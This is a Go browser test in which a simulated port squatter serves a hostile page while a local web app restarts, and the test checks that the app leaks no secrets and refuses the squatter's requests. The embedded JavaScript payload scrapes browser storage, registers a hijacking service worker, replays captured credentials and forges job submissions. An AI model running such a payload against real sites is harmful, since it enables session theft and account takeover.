package browser_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// evil is what a squatter answers to whoever loads a page from him. It stays open, takes over its origin with a service worker, looks
// for secrets of other documents, and goes on asking when the farm is back: as it is, with a code that its address had, and with all that
// the squatter was sent.
const evil = `<!doctype html><meta charset="utf-8"><title>evil</title><body>evil</body><script>
const code = /^#code=qb_[a-z-]+_([0-9a-f]{16})_([\w-]{43})/.exec(location.hash);
globalThis.tries = 0; globalThis.accepted = []; globalThis.loot = [];
globalThis.worker = navigator.serviceWorker.register("/evil-worker.js", { scope: "/" }).then(() => navigator.serviceWorker.ready).then(() => true, () => false);
for (const store of [localStorage, sessionStorage]) for (let n = 0; n < store.length; n++) if (!/evil/.test(store.key(n))) loot.push(store.key(n) + "=" + store.getItem(store.key(n)));
for (const name of ["qb-session", "qb"]) { const c = new BroadcastChannel(name); c.onmessage = e => loot.push("channel: " + JSON.stringify(e.data)); c.postMessage("who"); }
if (globalThis.opener) loot.push("an opener");
for (const name of ["qb", "farm"]) { const w = open("", name); if (w && w.location.href !== "about:blank") loot.push("a window " + name); w?.close(); }
indexedDB.databases?.().then(all => all.forEach(d => loot.push("database " + d.name)));
localStorage.setItem("qb-session", "evil"); localStorage.setItem("qb-draft", '{"command":"evil"}'); localStorage.setItem("qb-bells", "{}"); sessionStorage.setItem("qb-undo", "[]");
const bytes = t => new TextEncoder().encode(t), b64 = b => btoa(String.fromCharCode(...new Uint8Array(b))).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
const un = t => Uint8Array.from(atob(t.replaceAll("-", "+").replaceAll("_", "/")), c => c.charCodeAt(0));
async function signed(id, key, method, path) {
  const proof = await (await fetch("/v1/sessions/" + id + "/proof?nonce=0123456789abcdef&code=true")).json();
  const none = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", n = ++tries + 1000;
  const mac = await crypto.subtle.sign("HMAC", key, bytes(["qb request 1", proof.process, n, method, location.origin, path, "", "", none].join("\n")));
  return "QB-Signed " + id + " " + proof.process + " " + n + " " + none + " " + b64(mac);
}
async function attempt(what, path, options) {
  try {
    const answer = await fetch(path, { cache: "no-store", ...options, headers: { ...options?.headers, Evil: "1" } });
    tries++;
    if (answer.status < 400 && !answer.headers.has("Squatter")) accepted.push(what + " " + path + " " + answer.status);
  } catch {}
}
(async () => {
  for (let heard = [];;) {
    heard = await fetch("/evil-heard").then(a => a.ok ? a.json() : heard, () => heard);
    for (const path of ["/v1/ping", "/v1/jobs", "/v1/tokens", "/v1/watch"]) await attempt("bare", path);
    await attempt("bare", "/v1/jobs", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"command":["id"],"name":"forged"}' });
    for (const h of heard) await attempt("replay", h.path, { method: h.method, headers: { Authorization: h.authorization, "Content-Type": "application/json" }, body: h.body || undefined });
    if (code) {
      const key = await crypto.subtle.importKey("raw", un(code[2]), { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
      try { await attempt("code", "/v1/sessions", { method: "POST", headers: { Authorization: await signed(code[1], key, "POST", "/v1/sessions") } }); } catch {}
      await attempt("code as a token", "/v1/ping", { headers: { Authorization: "Bearer " + location.hash.slice(6) } });
    }
    await new Promise(done => setTimeout(done, 100));
  }
})();
</script>`

// evilWorker answers each document of its origin with the squatter's, and looks at all that goes by.
const evilWorker = `const evil = %q; self.addEventListener("install", e => e.waitUntil(skipWaiting())); self.addEventListener("activate", e => e.waitUntil(clients.claim()));
self.addEventListener("fetch", e => { if (e.request.mode === "navigate") e.respondWith(new Response(evil, { headers: { "Content-Type": "text/html", Squatter: "1" } })); });`

// heard is a request that came to the squatter with a credential, or with anything that could be one.
type heard struct {
	Method        string `json:"method"`
	Path          string `json:"path"`
	Authorization string `json:"authorization"`
	Body          string `json:"body"`
}

// squatter listens on the farm's port while the farm does not run.
type squatter struct {
	t       *testing.T
	port    string
	mu      sync.Mutex
	asked   map[string]int // by host and path
	signed  []heard        // with a signature, which is of no use
	secrets []string
	servers []*http.Server
}

// take waits for the port, as whoever wants it does, on both addresses of loopback.
func (s *squatter) take() {
	s.t.Helper()
	s.asked, s.servers = map[string]int{}, nil
	for _, host := range []string{"127.0.0.1", "::1"} {
		var l net.Listener
		var err error
		for end := time.Now().Add(patience); ; time.Sleep(200 * time.Microsecond) {
			if l, err = net.Listen("tcp", net.JoinHostPort(host, s.port)); err == nil || time.Now().After(end) {
				break
			}
		}
		if err != nil {
			s.t.Fatal(err)
		}
		server := &http.Server{Handler: s}
		s.servers = append(s.servers, server)
		go server.Serve(l)
	}
}

func (s *squatter) leave() {
	for _, server := range s.servers {
		_ = server.Close()
	}
}

// hears says how often a host was asked for a path that begins so.
func (s *squatter) hears(host, path string) (n int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for key, count := range s.asked {
		if strings.HasPrefix(key, host+path) {
			n += count
		}
	}
	return n
}

func (s *squatter) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body) // it may be gone
	s.mu.Lock()
	s.asked[r.Host+r.URL.Path]++
	text := fmt.Sprint(r.URL, r.Header, string(body))
	switch auth := r.Header.Get("Authorization"); {
	case r.Header.Get("Evil") != "": // his own
	case strings.Contains(text, "qb_"), auth != "" && !strings.HasPrefix(auth, "QB-Signed "):
		s.secrets = append(s.secrets, text)
	case auth != "":
		s.signed = append(s.signed, heard{r.Method, r.URL.RequestURI(), auth, string(body)})
	}
	all, _ := json.Marshal(s.signed) // texts always encode
	s.mu.Unlock()
	w.Header().Set("Squatter", "1")
	switch {
	case r.URL.Path == "/evil-heard":
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write(all)
	case r.URL.Path == "/evil-worker.js":
		w.Header().Set("Content-Type", "text/javascript")
		w.Header().Set("Service-Worker-Allowed", "/")
		fmt.Fprintf(w, evilWorker, evil)
	case strings.HasPrefix(r.URL.Path, "/v1/sessions/"):
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"process":"0","proof":"AAAA"}`)
	case strings.HasPrefix(r.URL.Path, "/v1/"):
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"token":"x","key":"x","user":"root","role":"admin"}`)
	default:
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Cross-Origin-Opener-Policy", "same-origin")
		fmt.Fprint(w, evil)
	}
}

// another is one more tab of the same browser.
func (b *tab) another(t *testing.T) *tab {
	t.Helper()
	ctx, cancel := chromedp.NewContext(b.ctx)
	t.Cleanup(cancel)
	return &tab{farm: b.farm, ctx: ctx}
}

func (b *tab) close(t *testing.T) {
	t.Helper()
	if err := chromedp.Cancel(b.ctx); err != nil {
		t.Log("closing a tab:", err)
	}
}

// taken wants the squatter's script and his service worker in a tab.
func (b *tab) taken(t *testing.T) {
	t.Helper()
	if !js[bool](t, b, `document.title === "evil"`) {
		t.Fatal("the squatter's script is not there")
	}
	if ok, err := chromedp.Run(b.ctx, chromedp.Evaluate[bool](`worker`, chromedp.EvalAwaitPromise)); err != nil || !ok {
		t.Fatalf("the squatter's service worker is not there: %v, %v", ok, err)
	}
}

// refusedAll wants that the squatter's script asks the farm, which is back, and that nothing of that is accepted.
func (b *tab) refusedAll(t *testing.T, round int) (tries int) {
	t.Helper()
	before := js[int](t, b, `tries`)
	b.until(t, "the script goes on asking", fmt.Sprintf(`tries >= %d`, before+6))
	if got := js[[]string](t, b, `accepted`); len(got) > 0 {
		t.Errorf("round %d: of the squatter's script the farm accepts %q", round, got)
	}
	if got := js[[]string](t, b, `loot`); len(got) > 0 {
		t.Errorf("round %d: the squatter's script finds %q", round, got)
	}
	return js[int](t, b, `tries`) - before
}

// TestPageSquatter: a stranger takes the port each time that the supervisor restarts. He answers the requests of one page, answers the reload of
// another, a second document at the address of a third, and a link of qb open, with a script of his own that stays open. He is sent no secret,
// and nothing of what his script asks the farm for afterwards is accepted. QB_SQUATS says how often.
func TestPageSquatter(t *testing.T) {
	times, _ := strconv.Atoi(os.Getenv("QB_SQUATS"))
	times = max(times, 3)
	holder := newFarm(t, "-hosts", "0") // for its Postgres
	holder.start("127.0.0.1:0")
	holder.database(`CREATE DATABASE squatter_test`)
	f := newFarm(t)
	f.args = []string{"supervisor"}
	f.env = []string{"QB_DATABASE_URL=postgres:///squatter_test?host=" + strings.ReplaceAll(filepath.Join(holder.state, "run"), "/", "%2F") + "&port=5432&sslmode=disable&user=qb"}
	f.start("127.0.0.1:0")
	s := &squatter{t: t, port: f.port, signed: []heard{}}
	stays := openTab(t, f)
	stays.logIn(t)
	host := func(b *tab) string { return js[string](t, b, `location.host`) }
	tries, ended, began := 0, 0, time.Now()
	for round := range times {
		reloaded := stays.another(t)
		reloaded.logIn(t)
		evils, closed := []*tab{reloaded}, []*tab{reloaded}
		var third *tab
		link := ""
		if all := round%10 == 0; all {
			third = stays.another(t)
			third.logIn(t)
			link = f.run("open")
		}
		f.end(syscall.SIGKILL)
		s.take()
		reloaded.do(t, chromedp.Reload())
		if third != nil {
			for _, address := range []string{"http://" + host(third) + "/#/jobs", link} {
				b := stays.another(t)
				b.do(t, chromedp.Navigate(address))
				evils = append(evils, b)
			}
			closed = append(evils, third)
		}
		for _, b := range evils {
			b.taken(t)
		}
		for end := time.Now().Add(patience); s.hears(host(stays), "/v1/sessions/") < 2; time.Sleep(10 * time.Millisecond) {
			if time.Now().After(end) {
				t.Fatal("the page never asks the squatter")
			}
		}
		s.leave()
		f.start("127.0.0.1:" + f.port)
		stays.until(t, "the page is live again", liveText+` === "live"`)
		if third != nil {
			third.until(t, "a page whose address has a service worker ends", `document.querySelector(".login")?.innerText.includes("service worker") === true`)
			ended++
			fresh := stays.another(t) // the squatter's worker has none of the addresses of qb open
			fresh.logIn(t)
			closed = append(closed, fresh)
		}
		for _, b := range evils {
			tries += b.refusedAll(t, round)
		}
		for _, b := range closed {
			b.close(t)
		}
		if round%10 == 9 {
			t.Logf("%d restarts: %d secrets, %d signed requests, %d tries of the scripts afterwards", round+1, len(s.secrets), len(s.signed), tries)
		}
	}
	for _, secret := range s.secrets {
		t.Errorf("the squatter was sent %.500s", secret)
	}
	if jobs := f.run("jobs", "-user", "all", "-no-headers"); jobs != "" {
		t.Errorf("there are the jobs %s", jobs)
	}
	t.Logf("%d restarts in %s: %d secrets, %d signed requests, %d tries of the squatter's scripts afterwards, %d pages ended for a service worker",
		times, time.Since(began).Round(time.Second), len(s.secrets), len(s.signed), tries, ended)
}
